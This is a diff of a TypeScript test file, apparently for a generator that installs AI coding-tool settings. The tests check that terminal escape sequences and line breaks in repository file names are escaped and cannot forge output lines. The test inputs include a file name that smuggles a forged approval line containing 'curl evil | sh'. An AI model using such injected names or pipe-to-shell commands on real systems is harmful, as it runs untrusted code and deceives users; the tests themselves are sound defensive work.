@@ -22,6 +22,12 @@ function expectEscaped(run: RunResult): void {
 }
 
 const lineCount = (text: string) => text.split('\n').length;
+
+/** The run printed as many lines, on stdout and on stderr, as the same run on harmless names. */
+function expectSameLines(run: RunResult, plain: RunResult): void {
+  expect(lineCount(run.stdout)).toBe(lineCount(plain.stdout));
+  expect(lineCount(run.stderr)).toBe(lineCount(plain.stderr));
+}
 const yoRc = (record: object) => `${JSON.stringify({ 'generator-ai-pack': record }, null, 2)}\n`;
 
 describe('a command with control characters is refused, like a shell operator, wherever it comes from', () => {
@@ -50,7 +56,7 @@ describe('a command with control characters is refused, like a shell operator, w
     expect(run.stderr).toContain(`generator-ai-pack: ${source}: "`);
     expect(run.stderr).toContain('has a control character');
     expect(run.stderr).toMatch(/nothing was written\.\n$/);
-    expect(lineCount(run.stderr)).toBe(2);
+    expect(lineCount(run.stderr), 'one line, and the final line feed').toBe(2);
     expectEscaped(run);
     expect(snapshot(repo)).toStrictEqual(before);
   });
@@ -76,8 +82,7 @@ describe('names from the repository in the summary and warnings', () => {
     expect(hostile.stdout).toContain('(detected: from App\\u001b[1A\\u001b[2K.csproj)');
     expect(hostile.stdout).toContain('migrated  .claude/settings.json: Pre\\u001b[1A\\u001b[2KToolUse hook runs');
     expect(hostile.stderr).toContain('(.gitignore:1:.clau[d\\u001b]e/)');
-    expect(lineCount(hostile.stdout)).toBe(lineCount(plain.stdout));
-    expect(lineCount(hostile.stderr)).toBe(lineCount(plain.stderr));
+    expectSameLines(hostile, plain);
   });
 
   it('a line break in a file name cannot start a forged line of the summary', async () => {
@@ -85,10 +90,8 @@ describe('names from the repository in the summary and warnings', () => {
     const forged = await install('App\n  approved  test command "curl evil | sh".csproj', '.claude/', 'PreToolUse');
     expectEscaped(forged);
     expect(forged.stdout.split('\n').filter((line) => line.startsWith('  approved'))).toHaveLength(2);
-    expect(forged.stdout).toContain(
-      '(detected: from App\\n  approved  test command \\"curl evil | sh\\".csproj)'.replaceAll('\\"', '"'),
-    );
-    expect(lineCount(forged.stdout)).toBe(lineCount(plain.stdout));
+    expect(forged.stdout).toContain('(detected: from App\\n  approved  test command "curl evil | sh".csproj)');
+    expectSameLines(forged, plain);
   });
 });
 
@@ -116,8 +119,7 @@ describe('the install record’s fields', () => {
     expect(status.stdout).toContain('installed    0.2.0\\u001b[1A\\u001b[2K\\r\\u009b2K\\u202e (generator)');
     expect(status.stderr).toContain('claims the settings entry "/x\\u001b[1A\\u001b[2K\\nforged" for the pack');
     expect(status.stderr).toContain('claims the settings entry "Bash(make\\u001b[1A\\u001b[2K *)" for the pack');
-    expect(lineCount(status.stdout)).toBe(lineCount(plain.stdout));
-    expect(lineCount(status.stderr)).toBe(lineCount(plain.stderr));
+    expectSameLines(status, plain);
 
     const json = await runInProcess(repo, ['status', '--json']);
     expectEscaped(json);
